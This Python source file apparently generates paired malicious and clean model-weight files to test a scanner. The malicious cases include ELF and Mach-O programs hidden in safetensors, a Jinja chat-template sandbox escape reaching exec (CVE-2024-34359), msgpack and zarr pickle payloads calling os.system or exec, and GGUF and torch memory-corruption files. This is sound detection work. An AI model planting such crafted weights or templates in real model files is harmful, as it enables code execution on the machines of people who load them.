"""Weights as data: hidden executables, GGUF counts and templates, msgpack, zarr and a torn storage."""
import json

import msgpack
import numcodecs
import numpy

from assembly import Raw, call, glob, pickle, val
from pair import CODE, SHELL
from .craft import LLAMA, elf, floats, gguf, macho, noise, safetensors, torch_zip
from .torches import entries, tensor


def zarr(filters, chunk):
    array = {"zarr_format": 2, "shape": [2], "chunks": [2], "dtype": "|O", "compressor": None, "filters": filters, "fill_value": 0, "order": "C"}
    return {
        "params/labels/0": chunk,
        "params/labels/.zarray": json.dumps(array, indent=4),
        "params/kernel/.zarray": json.dumps({**array, "dtype": "<f4", "shape": [16], "chunks": [16], "filters": None}, indent=4),
        "params/kernel/0": floats(16),
        "params/.zgroup": '{"zarr_format": 2}',
        ".zgroup": '{"zarr_format": 2}',
        "_CHECKPOINT_METADATA": '{"item_handlers": "orbax.checkpoint._src.handlers.pytree_checkpoint_handler.PyTreeCheckpointHandler", "metrics": {}}',
    }


def nd(kind, name, data):
    arrays = {b"nd": True, b"type": name, b"kind": kind, b"shape": [2], b"data": data}
    return msgpack.packb({b"step": 1200, b"params": {b"dense": {b"bias": arrays}}}, use_bin_type=True)


def templated(text):
    names = [("tokenizer.chat_templates", "as", ["tool_use"]), ("tokenizer.chat_template", "s", "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% endfor %}"), ("tokenizer.chat_template.tool_use", "s", text)]
    return gguf(LLAMA + names, [("token_embd.weight", (64, 5), 0, 0)], floats(320))


def add(s):
    program = elf(4096)
    s.add("weights", "program_as_a_tensor", safetensors({"lm_head.weight": ("F32", (64, 16), floats(1024)), "lm_head.zeros": ("U8", (64, 64), program)}), safetensors({"lm_head.weight": ("F32", (64, 16), floats(1024)), "lm_head.zeros": ("U8", (64, 64), noise(4096))}), None, "model.safetensors",
          why="the bytes of the tensor are a whole, valid ELF program: a hidden executable, dropped by any two-line loader (not run)")

    grey = numpy.frombuffer(floats(4096, 9), "u1").reshape(-1, 4).copy()
    hidden = grey.copy()
    hidden[:, 0] = numpy.frombuffer(program, "u1")
    tensors = lambda body: safetensors({"encoder.weight": ("F32", (64, 64), body.tobytes()), "encoder.bias": ("F32", (64,), floats(64))})  # noqa: E731
    s.add("weights", "program_in_the_lowest_mantissa_byte", tensors(hidden), tensors(grey), None, "encoder.safetensors",
          why="EvilModel / MaleficNet: the lowest byte of each float spells an ELF program while the weights keep their values (not run)")

    parts = {"a.weight": ("F32", (16, 16), floats(256)), "b.weight": ("F32", (16, 16), floats(256, 2))}
    s.add("weights", "program_in_the_gap_between_tensors", safetensors(parts, {"format": "pt"}, macho(4096)), safetensors({**parts, "c.weight": ("F32", (32, 32), floats(1024, 3))}, {"format": "pt"}), None, "adapter.safetensors",
          why="a Mach-O executable in bytes no tensor owns (not run)")

    bad = "{% set g = namespace(a='__in' ~ 'it__') %}{{ (joiner|attr(g.a))['__glob' + 'als__']['__builtins__']['exec'](\"" + CODE + "\") }}"
    good = "{% set g = namespace(a='rol' ~ 'e') %}{% for m in messages %}{{ m[g.a] }}{% endfor %}"
    s.add("weights", "gguf_second_template", templated(bad), templated(good), "10/gguf:tokenizer.chat_template.tool_use", "tiny.gguf",
          why="CVE-2024-34359: the tool template of the file, beside a clean default one, reaches exec when llama-cpp-python renders it")

    half = 1 << 61
    s.add("weights", "gguf_sizes_that_wrap", gguf(LLAMA, [("blk.0.a", (half,), 0, 0), ("blk.0.b", (half,), 0, half * 4), ("token_embd.weight", (64, 5), 0, 0)], floats(320)), gguf(LLAMA, [("blk.0.a", (64,), 0, 0), ("blk.0.b", (64,), 0, 256), ("token_embd.weight", (64, 5), 0, 512)], floats(448)), None, "wrap.gguf",
          why="CVE-2025-53630: the padded sizes add up to 2^64, the buffer is allocated small and written past its end. From the format; llama.cpp not run")

    s.add("weights", "msgpack_object_array", nd(b"O", "|O", pickle(call(glob("posix", "system"), SHELL))), nd(b"", "<f4", floats(2)), "10/msgpack", "policy.msgpack",
          why="msgpack-numpy decodes an array of kind O with pickle.loads; it calls os.system")

    s.add("weights", "zarr_pickle_filter", zarr([{"id": "pickle", "protocol": 4}], pickle(call(glob("builtins", "exec"), CODE))), zarr([numcodecs.JSON().get_config()], bytes(numcodecs.JSON().encode(numpy.array(["cat", "dog"], object)))), "10/zarr",
          why="the array's codec chain names numcodecs' pickle filter, so reading the chunk unpickles it: exec")

    torn = pickle(entries({"fc.weight": Raw(tensor("0", 1 << 20) + val(200000) + val(1.0) + b"s")}), 2)
    whole = pickle(entries({"fc.weight": tensor("0", 16)}), 2)
    s.add("weights", "torn_storage_then_setitem", torch_zip(torn, {"0": floats(16)}), torch_zip(whole, {"0": floats(16)}), None, "model.pt",
          why="CVE-2026-24747: a storage that claims 4 MiB over a record of 64 bytes, then SETITEM far behind it: a heap write under weights_only before torch 2.10 (refused by the torch here, not run)")
